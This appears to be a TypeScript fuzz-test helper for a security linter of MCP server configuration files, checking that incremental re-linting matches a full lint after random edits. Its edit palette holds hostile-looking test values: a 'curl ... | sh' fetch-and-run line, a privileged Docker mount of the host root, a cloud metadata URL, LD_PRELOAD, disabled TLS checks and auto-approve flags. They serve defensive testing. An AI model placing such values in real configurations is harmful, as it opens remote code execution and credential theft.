import assert from 'node:assert/strict';
import { analyze, type Analysis, type Finding } from '../../../server/src/engine';
import { confinedServerIndex, entrySpan } from '../../../server/src/engine/incremental';
import { changedRegion } from '../../../server/src/core/textDiff';
import type { TreeNode } from '../../../server/src/core/tree';
import type { SampleFile } from './corpus';
import { makeSecret } from './arbitraries';

/**
 * The differential check behind incremental re-linting (engine/incremental.ts): chains of
 * edits inside random server entries, each re-linted incrementally from the previous
 * result and compared with a full lint of the same text. Used by the unit suite
 * (test/unit/invariants/incremental.test.ts) and `npm run fuzz -- --only incremental`.
 */

/** Strings an edit writes into a server entry: launchers, packages, paths, secrets, transports, names. */
function palette(random: () => number): string[] {
  return [
    'npx',
    '-y',
    'uvx',
    'docker',
    'run',
    '--privileged',
    '-v',
    '/:/host',
    'node',
    'bash',
    '-c',
    'curl https://x.example/i.sh | sh',
    '@modelcontextprotocol/server-filesystem',
    '@modelcontextprotocol/server-github',
    '@modelcontextprotocol/server-postgres',
    'mcp-server-fetch',
    'mcp-server-fetch==2025.1.1',
    'some-tool@latest',
    'some-tool@1.2.3',
    'ghcr.io/github/github-mcp-server:latest',
    '/',
    '~',
    '/home/dev/project',
    '${workspaceFolder}',
    makeSecret(0, Math.floor(random() * 1e9)),
    makeSecret(2, Math.floor(random() * 1e9)),
    makeSecret(7, Math.floor(random() * 1e9)),
    'postgresql://app:hunter2hunter2@db.internal:5432/app',
    'Bearer abc',
    '${input:token}',
    '${env:GITHUB_TOKEN}',
    '${GITHUB_TOKEN}',
    'http://0.0.0.0:3000/mcp',
    'https://api.example.com/mcp',
    'http://169.254.169.254/latest',
    'stdio',
    'sse',
    'http',
    '*',
    'true',
    'GITHUB_PERSONAL_ACCESS_TOKEN',
    'API_KEY',
    'LD_PRELOAD',
    'NODE_TLS_REJECT_UNAUTHORIZED',
    '0',
    'alwaysAllow',
    'autoApprove',
    'command',
    'args',
    'env',
    'url',
  ];
}

/** String nodes (values and keys) inside a server entry. */
function stringNodes(node: TreeNode, out: TreeNode[] = []): TreeNode[] {
  if (node.type === 'string') out.push(node);
  for (const child of node.children ?? []) stringNodes(child, out);
  return out;
}

/** One edit inside a random server entry: a string (or key) replaced by a palette value, another server's string or name, or a typed character; lines or a property added. */
export function editInsideServer(analysis: Analysis, random: () => number): string | undefined {
  const servers = analysis.config.servers;
  if (servers.length === 0) return undefined;
  const server = servers[Math.floor(random() * servers.length)];
  const { start, end } = entrySpan(server);
  const text = analysis.doc.text;
  const targets = [server.nameNode, ...stringNodes(server.node)].filter(
    (node) => node.type === 'string' && node.offset >= start && node.offset + node.length <= end,
  );
  if (targets.length === 0) return undefined;
  const target = targets[Math.floor(random() * targets.length)];
  const other = servers[Math.floor(random() * servers.length)];
  const otherStrings = stringNodes(other.node).map((node) => String(node.value));
  const choices = [...palette(random), other.name, ...otherStrings];
  const kind = random();
  // Structural edits inside the entry's object: lines added (every later finding moves down)
  // or a property added in front of the others.
  if (kind < 0.2 && server.node.type === 'object') {
    const inside = server.node.offset + 1;
    const eol = text.includes('\r\n') ? '\r\n' : '\n';
    const property = `${JSON.stringify(choices[Math.floor(random() * choices.length)])}: ${JSON.stringify(choices[Math.floor(random() * choices.length)])}`;
    const insert = kind < 0.1 || !server.node.children?.length ? `${eol}${eol}      ` : `${eol}      ${property},`;
    return text.slice(0, inside) + insert + text.slice(inside);
  }
  let value: string;
  if (kind < 0.3) value = `${String(target.value)}${'abcxyz0-._@/'[Math.floor(random() * 12)]}`;
  else if (kind < 0.4) value = String(target.value).slice(0, -1);
  else value = choices[Math.floor(random() * choices.length)];
  return text.slice(0, target.offset) + JSON.stringify(value) + text.slice(target.offset + target.length);
}

/** A finding as plain data, deferred fix edits included, in a stable order. */
export function normalise(findings: readonly Finding[]): string[] {
  return findings
    .map((finding) =>
      JSON.stringify({ ...finding, fixes: finding.fixes.map((fix) => ({ title: fix.title, safe: fix.safe, preferred: fix.preferred, edits: fix.edits })) }),
    )
    .sort();
}

/**
 * Runs `steps` chained edits per file; throws (assert) on the first difference. Returns how
 * many edits were checked and how many of them took the incremental path.
 */
export function checkIncremental(files: readonly SampleFile[], random: () => number, steps: number): { edits: number; confined: number } {
  let edits = 0;
  let confined = 0;
  for (const file of files) {
    let previous = analyze(file.text, file.lintPath);
    if (!previous) continue;
    for (let step = 0; step < steps; step++) {
      const text = editInsideServer(previous, random);
      if (text === undefined) break;
      const full = analyze(text, file.lintPath);
      const incremental = analyze(text, file.lintPath, undefined, { previous });
      if (!full || !incremental) {
        assert.equal(incremental, full, `${file.name} step ${step}`);
        break;
      }
      edits++;
      const region = changedRegion(previous.doc.text, text);
      if (region && confinedServerIndex(previous, full.doc, full.config, region) !== undefined) confined++;
      assert.deepEqual(normalise(incremental.findings), normalise(full.findings), `${file.name}, edit ${step + 1}`);
      // Chain: the next edit starts from the incremental result, as in the language server.
      previous = incremental;
    }
  }
  return { edits, confined };
}

/** The JSON configs worth editing: parsed without errors, with at least one server. */
export function editableJsonConfigs(files: readonly SampleFile[]): SampleFile[] {
  return files.filter((file) => {
    const analysis = analyze(file.text, file.lintPath);
    return analysis && analysis.doc.syntax === 'json' && analysis.doc.problems.length === 0 && analysis.config.servers.length > 0;
  });
}
